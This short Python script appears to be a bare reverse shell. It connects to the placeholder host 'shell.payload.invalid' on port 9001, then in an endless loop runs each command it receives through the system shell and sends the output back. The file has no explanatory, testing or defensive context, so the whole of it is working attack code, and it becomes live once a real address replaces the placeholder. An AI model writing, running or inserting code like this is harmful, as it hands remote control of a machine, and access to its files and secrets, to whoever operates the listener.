# names: link command result
import socket
import subprocess
link = socket.socket()
link.connect(("shell.payload.invalid", 9001))
while True:
    command = link.recv(4096).decode()
    result = subprocess.run(command, shell=True, capture_output=True)
    link.send(result.stdout + result.stderr)
